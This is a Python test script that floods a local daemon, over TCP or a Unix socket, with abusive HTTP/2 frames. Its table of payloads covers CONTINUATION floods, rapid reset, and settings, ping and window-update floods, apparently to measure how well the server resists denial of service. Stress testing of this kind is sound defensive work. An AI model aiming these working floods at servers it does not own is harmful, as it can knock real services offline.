#!/usr/bin/env python3
"""Floods of HTTP/2 frames over TCP or a Unix socket, before any call is authenticated.

    tests/attack/flooder.py PORT|PATH FLOOD [tls]    # until its standard input ends

The program runs when no other wants a processor (SCHED_IDLE): the processor time that a remote attacker
spends is not this machine's, and only what the daemon spends on the flood counts.
"""

import os
import socket
import ssl
import sys
import threading

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"  # an HTTP/2 client's first bytes
CLIENTS = 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


GREETING = PREFACE + frame(4, 0, 0)

# By name: what a connection sends first, and then over and over. It closes at once if that is nothing.
FLOODS = {
    # A string of 2 GiB is announced in a header block that never ends.
    "continuation": (GREETING + frame(1, 0, 1, b"\x00\x7f\xff\xff\xff\x07"), frame(9, 0, 1, b"h" * 16384)),
    "empty continuation": (GREETING + frame(1, 0, 1), frame(9, 0, 1) * 1000),
    "settings": (GREETING, frame(4, 0, 0, b"\x00\x03\x00\x00\x00\x64") * 1000),
    "ping": (GREETING, frame(6, 0, 0, b"12345678") * 1000),
    "priority": (GREETING, frame(2, 0, 1, b"\x00\x00\x00\x00\x10") * 1000),
    "empty data": (GREETING, frame(0, 0, 1) * 1000),
    "window update": (GREETING, frame(8, 0, 0, b"\x00\x00\x00\x01") * 1000),
    "rapid reset": (GREETING, b"".join(frame(1, 5, stream, b"\x82\x86\x84\x41\x01a")
                                       + frame(3, 0, stream, b"\x00\x00\x00\x08") for stream in range(1, 1001, 2))),
    "unknown": (GREETING, frame(77, 0, 0, b"x" * 100) * 1000),
    "endless greeting": (PREFACE, frame(4, 0, 0, b"\x00\x03\x00\x00\x00\x64" * 2000)),
    "rubbish": (b"\x00" * 64, b"\x00" * 65536),
    "comes and goes": (b"", b""),
    "half a greeting": (PREFACE[:7], b""),
}


def connect(address: tuple[str, int] | str, is_tls: bool = False) -> socket.socket:
    """`address`: host and port, or the path of a Unix socket."""
    if isinstance(address, str):
        one = socket.socket(socket.AF_UNIX)
        one.settimeout(5)
        one.connect(address)
    else:
        one = socket.create_connection(address, timeout=5)
    if not is_tls:
        return one
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(one)


class Flooder:
    """Clients that send the first bytes, and then the others for as long as they are let, and connect
    anew when they are not."""

    def __init__(self, address: tuple[str, int] | str, name: str, is_tls: bool) -> None:
        self._address, self._is_tls = address, is_tls
        self._first, self._again = FLOODS[name]
        self._is_over = threading.Event()
        self.taken = self.connected = self.ended = 0  #: bytes that the system took; connections
        self._threads = [threading.Thread(target=self._attack) for _ in range(CLIENTS)]
        for thread in self._threads:
            thread.start()

    def stop(self) -> None:
        self._is_over.set()
        for thread in self._threads:
            thread.join()

    def _attack(self) -> None:
        while not self._is_over.is_set():
            try:
                with connect(self._address, self._is_tls) as one:
                    self.connected += 1
                    one.settimeout(0.2)
                    one.sendall(self._first)
                    while self._again and not self._is_over.is_set():
                        one.sendall(self._again)
                        self.taken += len(self._again)
            except TimeoutError:
                continue  # nobody reads
            except OSError:
                self.ended += 1


if __name__ == "__main__":
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    where = sys.argv[1] if "/" in sys.argv[1] else ("127.0.0.1", int(sys.argv[1]))
    flooder = Flooder(where, sys.argv[2], "tls" in sys.argv[3:])
    print("flooding", flush=True)
    sys.stdin.read()
    flooder.stop()
    print(flooder.taken, flooder.connected, flooder.ended)
